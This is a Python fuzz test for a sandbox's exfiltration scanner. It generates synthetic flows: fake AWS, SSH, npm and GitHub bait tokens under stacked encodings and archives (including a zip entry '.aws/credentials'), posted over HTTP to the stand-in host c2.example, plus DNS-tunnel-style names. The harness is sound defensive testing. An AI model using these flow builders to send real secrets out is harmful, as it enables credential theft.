"""Fuzz the exfiltration scanner: any captured bytes, any headers, any DNS names.

    .venv/bin/python fuzz/fuzz_exfil.py --seconds 600

Inputs are realistic flows (HTTP posts with gzip/deflate/br bodies, zip and tar uploads,
multipart forms, JSON with escapes, base64/hex/base32 blobs, SMTP with MIME parts, DNS tunnel
names) built from layers chosen at random, the same flows byte-mutated, truncated or spliced,
and plain noise. The invariants are the scanner's promises: it never raises, no decoder
reports an error, the derived bytes stay within the budget, each scan takes bounded time, and
a token planted under a clean chain of encodings is still found.
"""

from __future__ import annotations

import base64
import binascii
import bz2
import gzip
import io
import lzma
import tarfile
import time
import urllib.parse
import zipfile
import zlib

import brotli
from _loop import campaign
from hypothesis import strategies as st

from osptrack.sandbox.baits import make_baits
from osptrack.sandbox.exfil import Limits, Scanner, find_tunnels

# Fixed values in the formats of baits.make_baits(), so a crash file's input reproduces it.
TOKENS = {
    "aws_access_key_id": "AKIAFUZZ7Q2WXE5RT9LM",
    "aws_secret_access_key": "q8Zr+v/3KfLwPn0aYt7Ue2Bx/Gh5JcMs1Dk9oRi+",
    "ssh_private_key": "Fz0Q3mNw8RtY5uIo2PaS7dFg4HjK6lZx1CvB9nMqWeRtYuIo",
    "npm_token": "npm_Fz7Qw2Er4Ty6Ui8Op0As3Df5Gh7Jk9LzXcVb",
    "github_token": "ghp_Kq2Wf4Ex6Rz8Tc0Yv1Ub3In5Om7Pl9AsDfGhJk",
}
assert set(TOKENS) <= set(make_baits().values())
SCANNER = Scanner(TOKENS)
LIMITS = Limits()
MAX_SCAN_S = 30.0  # one scan of <= 64 KiB of fuzz input on a loaded 2-core machine


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)  # deterministic: hypothesis replays a draw byte for byte


def _zip(data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        info = zipfile.ZipInfo("a/.aws/credentials", date_time=(2020, 1, 1, 0, 0, 0))
        zf.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def _tar(data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("creds")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _multipart(data: bytes) -> bytes:
    return b'--fz\r\nContent-Disposition: form-data; name="f"\r\n\r\n' + data + b"\r\n--fz--\r\n"


# Layers that keep the data recoverable: a token under any stack of these must be found.
LAYERS = {
    "gzip": _gzip,
    "zlib": zlib.compress,
    "bzip2": bz2.compress,
    "xz": lzma.compress,
    "base64": base64.b64encode,
    "urlsafe": base64.urlsafe_b64encode,
    "base32": base64.b32encode,
    "hex": binascii.hexlify,
    "url": lambda d: urllib.parse.quote_from_bytes(d).encode(),
    "zip": _zip,
    "tar": _tar,
    "multipart": _multipart,
}
HEADERS = ["Content-Encoding: gzip", "Content-Encoding: br", "Content-Encoding: deflate",
           "Content-Encoding: gzip, br", "Content-Type: multipart/form-data; boundary=fz",
           "Transfer-Encoding: chunked", "Expect: 100-continue", "Content-Length: 99999999", "X: \xff"]  # fmt: skip


def http(body: bytes, headers: list[str]) -> bytes:
    head = "".join(h + "\r\n" for h in headers).encode("utf-8", "surrogateescape")
    if "Transfer-Encoding: chunked" in headers:
        body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    return b"POST /x?q=%ff HTTP/1.1\r\nHost: c2.example\r\n" + head + b"\r\n" + body


@st.composite
def layered(draw: st.DrawFn) -> tuple[bytes, str | None, dict[str, str]]:
    kind = draw(st.sampled_from(sorted(TOKENS)))
    data = draw(st.binary(max_size=40)) + TOKENS[kind].encode() + draw(st.binary(max_size=40))
    steps = draw(st.lists(st.sampled_from(sorted(LAYERS)), max_size=4))
    for step in steps:
        data = LAYERS[step](data)
    hints: dict[str, str] = {}
    if draw(st.booleans()):
        coding = draw(st.sampled_from(["gzip", "br", "deflate", "identity"]))
        data = {"gzip": _gzip, "br": brotli.compress, "deflate": zlib.compress}.get(coding, bytes)(data)
        hints = {"content-encoding": coding}
    if draw(st.booleans()):
        data = http(data, [f"Content-Encoding: {hints['content-encoding']}"] if hints else [])
        hints = {}
    # Base32 wider than a DNS tunnel's chain is not promised; everything else is.
    return data, kind, hints


@st.composite
def mutated(draw: st.DrawFn) -> tuple[bytes, str | None, dict[str, str]]:
    data, _, hints = draw(layered())
    buf = bytearray(data)
    for _ in range(draw(st.integers(1, 8))):
        op = draw(st.integers(0, 3))
        at = draw(st.integers(0, max(len(buf) - 1, 0)))
        if op == 0 and buf:
            del buf[at : at + draw(st.integers(1, 64))]
        elif op == 1:
            buf[at:at] = draw(st.binary(min_size=1, max_size=16))
        elif op == 2 and buf:
            buf[at] = draw(st.integers(0, 255))
        else:
            del buf[at:]  # truncated, as a capture cut at its cap
    headers = draw(st.lists(st.sampled_from(HEADERS), max_size=3))
    out = http(bytes(buf), headers) if draw(st.booleans()) else bytes(buf)
    return out, None, hints


noise = st.tuples(st.binary(max_size=8192), st.none(), st.dictionaries(
    st.sampled_from(["content-encoding", "content-type"]),
    st.sampled_from(["gzip", "br", "deflate", "x-gzip, br", "multipart/form-data; boundary=", "\xff", ""])))  # fmt: skip
label = st.from_regex(r"[a-z0-9-]{1,63}", fullmatch=True)
names = st.lists(st.lists(label, min_size=1, max_size=8).map(".".join), max_size=60)
flows = st.one_of(layered(), mutated(), noise, st.tuples(names, st.none(), st.just({})))


def check(value: object) -> None:
    data, kind, hints = value  # type: ignore[misc]
    t0 = time.monotonic()
    if isinstance(data, list):  # DNS names: the tunnel reassembly
        records = [{"t": float(i), "phase": "install", "kind": "dns", "qname": n} for i, n in enumerate(data)]
        findings, errors = find_tunnels(records, SCANNER)
        assert errors == [], errors
        assert all(f["kind"] in TOKENS for f in findings)
        return
    result = SCANNER.scan(data, hints)
    took = time.monotonic() - t0
    assert result.errors == (), result.errors
    assert result.derived <= LIMITS.derived_bytes + LIMITS.decode_bytes, result.derived
    assert result.blobs <= LIMITS.max_blobs, result.blobs
    assert took < MAX_SCAN_S, took
    found = {h.kind: h.chain for h in result.hits}
    if kind is not None and not result.exhausted:
        assert kind in found, ("planted token not found", kind)
    record = {"t": 1.0, "phase": "install", "kind": "tcp", "dst": "198.18.1.1", "dst_port": 80}
    findings, errors = SCANNER.scan_record(record, data)
    assert errors == [] and {f["kind"] for f in findings} <= set(TOKENS)


if __name__ == "__main__":
    campaign("exfil", flows, check)
